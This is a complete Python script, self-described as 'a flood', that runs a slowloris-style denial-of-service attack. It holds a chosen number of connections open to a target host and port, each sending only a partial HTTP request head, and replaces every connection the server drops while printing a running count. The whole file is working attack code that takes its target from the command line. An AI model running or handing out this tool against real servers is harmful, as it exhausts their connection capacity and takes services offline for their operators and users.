"""A flood: keeps so many half-open connections at an address, and opens a new one wherever one is ended.

Prints a line once the first of them have all been opened, and each second how many it has opened so far.
"""

from __future__ import annotations

import selectors
import socket
import sys
import time

HALF_A_HEAD = b"GET /gate HTTP/1.1\r\nHost: feedd\r\n"


def opened(address: tuple[str, int]) -> socket.socket:
    client = socket.create_connection(address)
    client.sendall(HALF_A_HEAD)
    client.setblocking(False)
    return client


def main(host: str, port: int, count: int) -> None:
    selector = selectors.DefaultSelector()
    for _ in range(count):
        selector.register(opened((host, port)), selectors.EVENT_READ)
    so_far, told_at = count, time.monotonic()
    print(so_far, flush=True)
    while True:
        for key, _ in selector.select(1.0):
            client = key.fileobj
            assert isinstance(client, socket.socket)
            try:
                if client.recv(4096):
                    continue
            except ConnectionError:
                pass
            selector.unregister(client)
            client.close()
            selector.register(opened((host, port)), selectors.EVENT_READ)
            so_far += 1
        if time.monotonic() - told_at >= 1.0:
            told_at = time.monotonic()
            print(so_far, flush=True)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
